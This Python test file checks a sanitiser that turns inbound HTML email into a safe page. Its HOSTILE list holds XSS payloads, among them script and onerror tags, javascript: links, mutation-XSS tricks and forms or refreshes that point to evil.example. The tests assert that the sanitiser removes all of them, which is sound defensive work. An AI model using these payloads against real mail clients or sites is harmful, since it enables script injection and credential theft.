"""HTML mail: what reaches the frame, and what never does."""

from datetime import UTC, datetime
from email import message_from_bytes, policy
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from widgets.mail import INLINE_LIMIT, MailPage
from workspace.models import Actor, ActorKind, Attachment, Direction, MediaKind, Message

AT = datetime(2026, 3, 31, tzinfo=UTC)
PIXEL = b"\x89PNG pixel"


def mail(html: str, *attachments: Attachment) -> Message:
    customer = Actor(ActorKind.CUSTOMER)
    return Message(1, 2, Direction.INBOUND, customer, "", html, AT, AT, attachments=attachments)


def picture(content_id: str, mime: str = "image/png", size: int = len(PIXEL)) -> Attachment:
    return Attachment(
        7, MediaKind.IMAGE, "logo.png", mime, size, content_id=content_id, inline=True
    )


def page(html: str, *attachments: Attachment, images: bool = False) -> MailPage:
    return MailPage(mail(html, *attachments), lambda id: PIXEL, images=images)


class Elements(HTMLParser):
    """Every element of a page with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def body(self) -> list[tuple[str, dict[str, str | None]]]:
        names = [tag for tag, _ in self.found]
        return self.found[names.index("body") + 1 :]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<base href='https://evil.example/'><a href='/x'>x</a>",
    "<style>body{background:url(https://evil.example/p)}</style>",
    "<p style='background-image:url(https://evil.example/p)'>x</p>",
    "<p style='position:fixed;inset:0;color:red'>x</p>",
    "<table background='https://evil.example/p'><tr><td>x</td></tr></table>",
    "<video src='https://evil.example/v' autoplay></video>",
    "<img srcset='https://evil.example/p 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
    "<img src='data:text/html;base64,PHN2Zz48L3N2Zz4='>",
    "</body></html><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
KNOWN = {"a", "body", "head", "html", "img", "meta", "p", "style", "table", "tbody", "td", "tr"}


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_or_loads_is_left(html: str) -> None:
    elements = Elements(page(html).html).body()
    for tag, attributes in elements:
        assert tag in KNOWN - {"style", "meta"}, tag
        assert not [name for name in attributes if name.startswith("on")]
        assert set(attributes) <= {"href", "rel", "style", "target"}, attributes
        assert "evil" not in str(attributes)
        assert "position" not in (attributes.get("style") or "")
        assert (attributes.get("href") or "https:").startswith(("http:", "https:", "mailto:", "/"))


def test_the_page_forbids_to_load_anything() -> None:
    [content] = [a["content"] for t, a in Elements(page("x").html).found if "http-equiv" in a]
    assert content is not None
    assert content.startswith("default-src 'none'; img-src data:; ")
    assert "script" not in content


def test_looks_are_kept() -> None:
    html = "<p style='color: red; text-align: center'>Hello <b>you</b></p><table><tr><td width=9>x"
    shown = page(html).html
    assert "color:red" in shown.replace(" ", "")
    assert "<b>you</b>" in shown
    assert 'width="9"' in shown


def test_links_open_elsewhere_and_tell_nothing() -> None:
    [(tag, link)] = Elements(page("<a href='https://example.org/?a=1&b=2'>x</a>").html).body()
    assert tag == "a"
    assert link == {
        "href": "https://example.org/?a=1&b=2",
        "rel": "noopener noreferrer",
        "target": "_blank",
    }


def test_images_of_the_web_wait_until_asked_for() -> None:
    html = "<img src='https://example.org/a.png'><img src='HTTP://example.org/b.png'>"
    closed = page(html)
    assert closed.blocked == 2
    assert "example.org" not in closed.html
    opened = page(html, images=True)
    assert opened.blocked == 0
    assert "https://example.org/a.png" in opened.html
    assert "img-src data: http: https:" in opened.html


def test_pictures_of_the_mail_are_put_in() -> None:
    shown = page("<img src='cid:logo%40x'><img src='cid:other'>", picture("<logo@x>")).html
    assert 'src="data:image/png;base64,' in shown
    assert "cid:" not in shown


def test_a_cid_never_brings_in_what_could_run() -> None:
    shown = page("<img src='cid:a'>", picture("a", mime="image/svg+xml")).html
    assert "data:" not in shown.partition("<body>")[2]


def test_large_pictures_stay_out() -> None:
    shown = page("<img src='cid:a'>", picture("a", size=INLINE_LIMIT + 1)).html
    assert "data:" not in shown.partition("<body>")[2]


def test_a_mail_can_not_fill_the_page_anew() -> None:
    assert "$sources $body {0}" in page("<p>$sources $body {0}</p>").html


def test_any_mail_becomes_a_page(mail_corpus: list[Path], email_files: list[Path]) -> None:
    for path in [*mail_corpus, *email_files]:
        raw = message_from_bytes(path.read_bytes(), policy=policy.default)
        for part in raw.walk():
            if part.get_content_type() == "text/html":
                assert page(_text(part)).html.startswith("<!doctype html>")


def _text(part: Any) -> str:
    return bytes(part.get_payload(decode=True) or b"").decode("latin-1")
